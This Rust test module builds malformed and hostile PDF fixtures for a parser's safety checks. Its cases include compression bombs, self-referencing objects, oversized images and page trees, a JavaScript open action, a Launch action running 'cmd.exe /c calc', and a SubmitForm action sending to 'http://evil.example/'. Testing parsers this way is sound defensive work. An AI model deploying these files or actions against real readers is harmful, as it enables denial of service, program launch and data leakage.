//! Pdf files whose streams, objects, pages, fonts and pictures are without end, that refer to themselves, and that act.

use super::build::{nested, zip, zlib, zlib_of};
use super::{Case, cut, found, harmless, refused};

const FONT: &str = "/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>";
const PAGE: &str = "/Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]";

pub const CASES: &[Case] = &[
    refused("content-of-zeros.pdf", "as in a bomb", || content("/Filter/FlateDecode", &zlib_of(b' ', 400))),
    refused("packed-twice.pdf", "as in a bomb", || {
        content("/Filter[/FlateDecode/FlateDecode]", &zlib(&zlib_of(b' ', 400)))
    }),
    refused("packed-four-times.pdf", "as in a bomb", || {
        content("/Filter[/Fl/Fl/Fl/Fl]", &zlib(&zlib(&zlib(&zlib_of(b' ', 400)))))
    }),
    refused("packed-as-letters.pdf", "as in a bomb", || {
        let hex: Vec<u8> =
            zlib_of(b' ', 300).iter().flat_map(|b| format!("{b:02x}").into_bytes()).chain(*b">").collect();
        content("/Filter[/ASCIIHexDecode/FlateDecode]", &hex)
    }),
    refused("packed-as-runs.pdf", "as in a bomb", || {
        let runs = [129u8, b' '].repeat(4 << 20);
        content("/Filter[/FlateDecode/RunLengthDecode]", &zlib(&runs))
    }),
    harmless("packed-by-itself.pdf", || content("/Filter 4 0 R", b"BT ET")),
    refused("objects-of-zeros.pdf", "as in a bomb", || object_stream(&zlib_of(b' ', 300), "")),
    refused("objects-in-themselves.pdf", "", || {
        object_stream(&zlib(b"4 0 5 10 <</A 1>>    <</B 2>>"), "/Extends 4 0 R")
    }),
    harmless("table-before-itself.pdf", || {
        let whole = String::from_utf8(simple("(text) Tj")).unwrap();
        let start = whole.rfind("xref\n0").unwrap();
        whole.replace("/Root 1 0 R", &format!("/Root 1 0 R/Prev {start}")).into_bytes()
    }),
    harmless("table-of-a-billion.pdf", || {
        String::from_utf8(simple("(text) Tj")).unwrap().replace("xref\n0 5", "xref\n0 4294967295").into_bytes()
    }),
    harmless("length-that-is-itself.pdf", || {
        of(&[
            b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
            format!("<<{PAGE}/Contents 4 0 R{FONT}>>").into_bytes(),
            b"<</Length 4 0 R>>stream\nBT /F1 12 Tf (text) Tj ET\nendstream".to_vec(),
        ])
    }),
    refused("pages-that-are-their-own.pdf", "no pages", || {
        of(&[
            b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
            b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>".to_vec(),
        ])
    }),
    harmless("pages-ten-by-ten-by-ten.pdf", pages_by_tens),
    cut("twenty-thousand-pages.pdf", "over the limit of 2000 pages", || pages_of_nothing(20_000)),
    harmless("a-million-pages.pdf", || pages_of_nothing(1_000_000)).long().within(1_536),
    harmless("page-of-a-billion-inches.pdf", || replaced("[0 0 200 100]", "[0 0 72000000000 72000000000]")),
    harmless("page-without-size.pdf", || replaced("[0 0 200 100]", "[0 0 0 0]")),
    harmless("page-of-no-numbers.pdf", || {
        replaced("[0 0 200 100]", "[-1e38 -1e38 1e38 1e38]/UserUnit 1e30/Rotate 2147483647")
    }),
    refused("one-content-many-times.pdf", "the content of page 1", || {
        page(
            &format!("/Contents[{}]", "4 0 R ".repeat(200_000)),
            &[stream("/Filter/FlateDecode", &zlib(&vec![b' '; 100_000]))],
        )
    }),
    cut("forms-that-draw-ten-forms.pdf", "drawn signs", || forms(10, 12)).undrawn().long(),
    harmless("form-that-draws-itself.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>",
            &[
                stream("", b"/X Do"),
                stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>", b"/X Do /X Do"),
            ],
        )
    }),
    harmless("pattern-in-itself.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</Pattern<</P 5 0 R>>>>",
            &[
                stream("", b"/Pattern cs /P scn 0 0 200 100 re f"),
                stream(
                    "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<</Pattern<</P 5 0 R>>>>",
                    b"/Pattern cs /P scn 0 0 1 1 re f",
                ),
            ],
        )
    }),
    harmless("mask-of-itself.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</ExtGState<</G 5 0 R>>/XObject<</X 6 0 R>>>>",
            &[
                stream("", b"/G gs 0 0 99 99 re f"),
                b"<</Type/ExtGState/SMask<</S/Luminosity/G 6 0 R>>>>".to_vec(),
                stream(
                    "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency/CS/DeviceGray>>/Resources<</ExtGState<</G 5 0 R>>>>",
                    b"/G gs 0 0 9 9 re f",
                ),
            ],
        )
    }),
    harmless("letter-that-writes-itself.pdf", || {
        page("/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>", &[
            stream("", b"BT /F1 12 Tf (aaaa) Tj ET"),
            b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>".to_vec(),
            stream("", b"BT /F1 12 Tf (aa) Tj ET"),
        ])
    }),
    cut("ten-million-letters.pdf", "drawn signs", || {
        let text = format!("BT /F1 1 Tf {} ET", format!("({}) Tj ", "a".repeat(1_000)).repeat(10_000));
        content(&format!("/Filter/FlateDecode{FONT}"), &zlib(text.as_bytes()))
    })
    .undrawn()
    .long()
    .within(1_536),
    cut("a-million-rectangles.pdf", "a picture or a drawing", || {
        content("/Filter/FlateDecode", &zlib("0 0 1 1 re f W n ".repeat(3_000_000).as_bytes()))
    })
    .long()
    .within(768),
    harmless("a-million-saved-states.pdf", || content("/Filter/FlateDecode", &zlib(&b"q ".repeat(2_000_000))))
        .within(1_536),
    harmless("a-path-of-millions.pdf", || {
        content("/Filter/FlateDecode", &zlib(format!("0 0 m {} S", "1 1 l 2 5 l ".repeat(1_000_000)).as_bytes()))
    })
    .long()
    .within(1_536),
    harmless("dashes-without-end.pdf", || content("", b"[.0000001] 0 d 0 0 m 200 100 l S [0 0 0] 0 d 0 0 m 9 9 l S"))
        .undrawn()
        .long(),
    refused("objects-never-closed.pdf", "nested beyond all use", || {
        [b"%PDF-1.4\n".to_vec(), b"7 0 obj [ ".repeat(600_000)].concat()
    }),
    harmless("deep-arrays.pdf", || {
        of(&[nested("[", "1", "]", 100_000).into_bytes(), nested("<</A", "1", ">>", 50_000).into_bytes()])
    }),
    harmless("deep-array-on-a-page.pdf", || {
        page(
            &format!("/Contents 4 0 R/Annots {}", nested("[", "1", "]", 20_000)),
            &[stream("", format!("{} 0 d", nested("[", "1", "]", 100_000)).as_bytes())],
        )
    }),
    cut("picture-of-ten-billion.pdf", "pixels", || {
        image("/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode", &zlib(b"x"))
    }),
    harmless("picture-of-negative-size.pdf", || {
        image("/Width -5/Height 4294967297/BitsPerComponent 8/ColorSpace/DeviceGray", b"x")
    }),
    refused("fax-of-ten-billion.pdf", "as in a bomb", || {
        image(
            "/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 100000>>",
            &[0xff; 50],
        )
    }),
    refused("fax-that-lies.pdf", "as in a bomb", || {
        image(
            "/Width 20/Height 20/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647/Rows 2147483647>>",
            &[0xff; 5_000],
        )
    }),
    harmless("jbig2-that-lies.pdf", || {
        image(
            "/Width 20/Height 20/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
            &jbig2_page(0x0fff_ffff, 0x0fff_ffff),
        )
    }),
    harmless("jpeg-2000-that-lies.pdf", || {
        image("/Width 20/Height 20/ColorSpace/DeviceGray/Filter/JPXDecode", &jpeg_2000(100_000, 100_000))
    }),
    harmless("jpeg-that-lies.pdf", || {
        image("/Width 20/Height 20/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode", &jpeg(65_500, 65_500))
    }),
    harmless("picture-masked-by-itself.pdf", || {
        image("/Width 20/Height 20/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 5 0 R/Mask 5 0 R", &[9; 400])
    }),
    harmless("colours-in-themselves.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</ColorSpace<</C 5 0 R>>>>",
            &[stream("", b"/C cs 1 sc 0 0 99 99 re f"), b"[/Indexed 5 0 R 255 <00>]".to_vec()],
        )
    }),
    harmless("function-of-functions.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 5 0 R>>>>>>",
            &[
                stream("", b"/S sh"),
                b"<</FunctionType 3/Domain[0 1]/Functions[5 0 R 5 0 R]/Bounds[.5]/Encode[0 1 0 1]>>".to_vec(),
            ],
        )
    }),
    refused("function-of-braces.pdf", "nested deeper", || {
        page(
            "/Contents 4 0 R/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 5 0 R>>>>>>",
            &[
                stream("", b"/S sh"),
                stream("/FunctionType 4/Domain[0 1 0 1]/Range[0 1]", nested("{", "", "}", 100_000).as_bytes()),
            ],
        )
    }),
    harmless("function-of-a-billion-samples.pdf", || {
        page(
            "/Contents 4 0 R/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 5 0 R>>>>>>",
            &[
                stream("", b"/S sh"),
                stream("/FunctionType 0/Domain[0 1 0 1]/Range[0 1]/Size[100000 100000]/BitsPerSample 32", b"x"),
            ],
        )
    }),
    refused("letters-for-four-billion-codes.pdf", "more than 1048576 codes", || {
        let map = "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 2 beginbfrange <00000000> <ffffffff> <0041> <0000> <ffff> [<0041>] endbfrange endcmap";
        page("/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>", &[
            stream("", b"BT /F1 12 Tf <00000041> Tj ET"),
            b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>".to_vec(),
            stream("", map.as_bytes()),
        ])
    }),
    refused("widths-for-four-billion-codes.pdf", "more than 1048576 codes", || {
        page("/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>", &[
            stream("", b"BT /F1 12 Tf <00000041> Tj ET"),
            b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/W[0 4294967295 500]>>]>>".to_vec(),
        ])
    }),
    harmless("map-that-uses-itself.pdf", || {
        page("/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>", &[
            stream("", b"BT /F1 12 Tf <0041> Tj ET"),
            b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 6 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A>>]>>".to_vec(),
            stream("/Type/CMap/CMapName/M/UseCMap 6 0 R", b"/M usecmap begincmap endcmap"),
        ])
    }),
    harmless("font-program-of-garbage.pdf", || {
        page("/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>", &[
            stream("", b"BT /F1 12 Tf (text) Tj ET"),
            b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</Type/FontDescriptor/FontFile2 6 0 R/FontFile 6 0 R>>>>".to_vec(),
            stream("", &[&b"\0\x01\0\0\xff\xff"[..], &[0xee; 9_000]].concat()),
        ])
    }),
    found("script.pdf", &["macro"], || {
        replaced("/Pages 2 0 R", "/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
    }),
    found("script-of-a-page.pdf", &["macro"], || {
        replaced("/Type/Page/", "/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>/Type/Page/")
    }),
    found("script-packed-away.pdf", &["macro"], || {
        page("/Contents 4 0 R/AA<</O 5 0 R>>", &[stream("", b" "), b"<</S/Java#53cript/JS 4 0 R>>".to_vec()])
    }),
    found("starts-a-program.pdf", &["launch_action"], || {
        replaced(
            "/Type/Page/",
            "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>]/Type/Page/",
        )
    }),
    found("sends-a-form.pdf", &["submit_action"], || {
        replaced("/Pages 2 0 R", "/Pages 2 0 R/OpenAction<</S/SubmitForm/F(http://evil.example/)>>")
    }),
    found("film.pdf", &["rich_media"], || {
        replaced("/Type/Page/", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]/Type/Page/")
    }),
    found("attached.pdf", &["embedded_files"], || attached(b"text", "")),
    refused("attached-bomb.pdf", "as in a bomb", || attached(&zlib_of(0, 300), "/Filter/FlateDecode")),
    found("attached-archive-of-archives.pdf", &["embedded_files"], || {
        attached(&(0..6).fold(zip(&[("a.txt", b"text")]), |inner, n| zip(&[(&format!("{n}.zip"), &inner)])), "")
    }),
    harmless("names-in-a-circle.pdf", || {
        replaced("/Pages 2 0 R", "/Pages 2 0 R/Names<</EmbeddedFiles<</Kids[1 0 R 1 0 R]>>>>/Kids[1 0 R]")
    }),
    harmless("fields-in-a-circle.pdf", || {
        page(
            "/Contents 4 0 R/Annots[5 0 R]",
            &[
                stream("", b" "),
                b"<</Subtype/Widget/FT/Tx/T(a)/V(b)/Kids[5 0 R 5 0 R]/Parent 5 0 R/Rect[0 0 9 9]>>".to_vec(),
            ],
        )
    }),
    harmless("a-hundred-thousand-remarks.pdf", || {
        page(
            &format!("/Contents 4 0 R/Annots[{}]", "5 0 R ".repeat(100_000)),
            &[stream("", b" "), b"<</Type/Annot/Subtype/Text/Contents(a remark)/Rect[0 0 9 9]>>".to_vec()],
        )
    }),
    harmless("layers-in-a-circle.pdf", || {
        replaced("/Pages 2 0 R", "/Pages 2 0 R/OCProperties<</D<</OFF[1 0 R]/Order[[[1 0 R]]]>>/OCGs[1 0 R]>>")
    }),
    refused("password.pdf", "password", || {
        String::from_utf8(simple("(text) Tj"))
            .unwrap()
            .replace(
                "/Root 1 0 R",
                &format!(
                    "/Root 1 0 R/ID[<{0}><{0}>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<{1}>/U<{1}>>>",
                    "00".repeat(16),
                    "11".repeat(32)
                ),
            )
            .into_bytes()
    }),
    refused("unknown-encryption.pdf", "encrypted", || {
        String::from_utf8(simple("(text) Tj"))
            .unwrap()
            .replace("/Root 1 0 R", "/Root 1 0 R/Encrypt<</Filter/Own/V 99>>")
            .into_bytes()
    }),
    refused("nothing-but-a-head.pdf", "damaged", || b"%PDF-1.7\n%%EOF".to_vec()),
    harmless("cut-off.pdf", || {
        let whole = simple("(text) Tj");
        whole[..whole.len() * 2 / 3].to_vec()
    }),
    found("archive-behind.pdf", &["second_kind"], || [simple("(text) Tj"), zip(&[("a.txt", b"text")])].concat()),
];

/// A pdf of these objects, numbered from 1; the first is the catalog.
pub fn of(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.4\n".to_vec();
    let mut places = Vec::new();
    for (index, object) in objects.iter().enumerate() {
        places.push(bytes.len());
        bytes.extend(format!("{} 0 obj\n", index + 1).bytes());
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let table = bytes.len();
    bytes.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    places.iter().for_each(|place| bytes.extend(format!("{place:010} 00000 n \n").bytes()));
    bytes.extend(format!("trailer<</Size {}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF", objects.len() + 1).bytes());
    bytes
}

fn stream(keys: &str, data: &[u8]) -> Vec<u8> {
    [format!("<</Length {}{keys}>>stream\n", data.len()).as_bytes(), data, b"\nendstream"].concat()
}

/// One page with these keys; its objects begin at 4.
fn page(keys: &str, objects: &[Vec<u8>]) -> Vec<u8> {
    let head = [
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        format!("<<{PAGE}{keys}>>").into_bytes(),
    ];
    of(&[&head[..], objects].concat())
}

/// One page whose content is this stream.
fn content(keys: &str, data: &[u8]) -> Vec<u8> {
    page(&format!("/Contents 4 0 R{FONT}"), &[stream(keys, data)])
}

fn simple(text: &str) -> Vec<u8> {
    content("", format!("BT /F1 12 Tf 20 50 Td {text} ET").as_bytes())
}

fn replaced(from: &str, to: &str) -> Vec<u8> {
    // Places behind it are wrong then, as in a file that somebody edited: parsers look for the objects.
    String::from_utf8(simple("(text) Tj")).unwrap().replacen(from, to, 1).into_bytes()
}

fn image(keys: &str, data: &[u8]) -> Vec<u8> {
    page(
        "/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>",
        &[stream("", b"99 0 0 99 0 0 cm /I Do"), stream(&format!("/Type/XObject/Subtype/Image{keys}"), data)],
    )
}

fn attached(data: &[u8], keys: &str) -> Vec<u8> {
    of(&[
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.bin)/EF<</F 5 0 R>>>>]>>>>>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        format!("<<{PAGE}/Contents 4 0 R{FONT}>>").into_bytes(),
        stream("", b"BT /F1 12 Tf (text) Tj ET"),
        stream(&format!("/Type/EmbeddedFile{keys}"), data),
    ])
}

/// Forms that each draw the next one so many times.
fn forms(times: usize, depth: usize) -> Vec<u8> {
    let calls = "/X Do ".repeat(times);
    let mut objects = vec![stream("", calls.as_bytes())];
    for level in 0..depth {
        let next =
            if level + 1 == depth { String::new() } else { format!("/Resources<</XObject<</X {} 0 R>>>>", 6 + level) };
        let draws = if level + 1 == depth { "0 0 1 1 re f" } else { &calls };
        objects.push(stream(&format!("/Type/XObject/Subtype/Form/BBox[0 0 9 9]{next}"), draws.as_bytes()));
    }
    page("/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>", &objects)
}

fn pages_of_nothing(count: usize) -> Vec<u8> {
    of(&[
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        format!("<</Type/Pages/MediaBox[0 0 9 9]/Kids[{}]/Count {count}>>", "<<>> ".repeat(count)).into_bytes(),
    ])
}

/// A tree of eight levels, each node ten times the same one below: a hundred million pages of one.
fn pages_by_tens() -> Vec<u8> {
    let mut objects = vec![b"<</Type/Catalog/Pages 2 0 R>>".to_vec()];
    for level in 0..8 {
        let kids = format!("{} 0 R ", level + 3).repeat(10);
        objects.push(format!("<</Type/Pages/Kids[{kids}]/Count 10>>").into_bytes());
    }
    objects.push(b"<</Type/Page/MediaBox[0 0 200 100]>>".to_vec());
    of(&objects)
}

/// A pdf whose objects are packed into this stream, and which is in its own table as packed into itself.
fn object_stream(packed: &[u8], keys: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 5 0 R>>\nendobj\n".to_vec();
    let holder = bytes.len();
    bytes.extend(b"4 0 obj\n");
    bytes.extend(stream(&format!("/Type/ObjStm/N 2/First 10/Filter/FlateDecode{keys}"), packed));
    bytes.extend(b"\nendobj\n");
    let table = bytes.len();
    // Kind, place or holder, generation or index: for the objects 0 to 6.
    let mut entries = Vec::new();
    for (kind, at, index) in [(0, 0, 0), (1, 9, 0), (0, 0, 0), (0, 0, 0), (1, holder, 0), (2, 4, 0), (1, table, 0)] {
        entries.push(kind);
        entries.extend(u32::try_from(at).unwrap().to_be_bytes());
        entries.push(index);
    }
    bytes.extend(b"6 0 obj\n");
    bytes.extend(stream("/Type/XRef/Size 7/W[1 4 1]/Root 1 0 R", &entries));
    bytes.extend(format!("\nendobj\nstartxref\n{table}\n%%EOF").bytes());
    bytes
}

/// A page of this size and an empty region of it (ITU-T T.88).
fn jbig2_page(width: u32, height: u32) -> Vec<u8> {
    let mut out = vec![0, 0, 0, 0, 48, 0, 1, 0, 0, 0, 19];
    out.extend(width.to_be_bytes());
    out.extend(height.to_be_bytes());
    out.extend([0; 11]);
    out.extend([0, 0, 0, 1, 38, 0, 1, 0, 0, 0, 30]);
    out.extend(width.to_be_bytes());
    out.extend(height.to_be_bytes());
    out.extend([0; 9]);
    out.extend([0, 3, 0xff, 0xfd, 0xff, 2, 0xfe, 0xfe, 0xfe]);
    out.extend([0xaa; 40]);
    out
}

/// The head of a code stream of this size and nothing behind (ITU-T T.800).
fn jpeg_2000(width: u32, height: u32) -> Vec<u8> {
    let mut out = vec![0xff, 0x4f, 0xff, 0x51, 0, 41, 0, 0];
    for number in [width, height, 0, 0, width, height, 0, 0] {
        out.extend(number.to_be_bytes());
    }
    out.extend([0, 1, 7, 1, 1]);
    out.extend([0xff, 0x52, 0, 12, 0, 0, 0, 1, 0, 5, 4, 4, 0, 1]);
    out.extend([0xff, 0x5c, 0, 19, 0x42]);
    out.extend([0x70; 16]);
    out.extend([0xff, 0x90, 0, 10, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, 0x93, 0xff, 0xd9]);
    out
}

/// The head of a jpeg of this size and nothing behind.
pub fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut out = vec![0xff, 0xd8, 0xff, 0xc0, 0, 17, 8];
    out.extend(height.to_be_bytes());
    out.extend(width.to_be_bytes());
    out.extend([3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]);
    out.extend([0xff, 0xda, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 63, 0, 0xff, 0xd9]);
    out
}
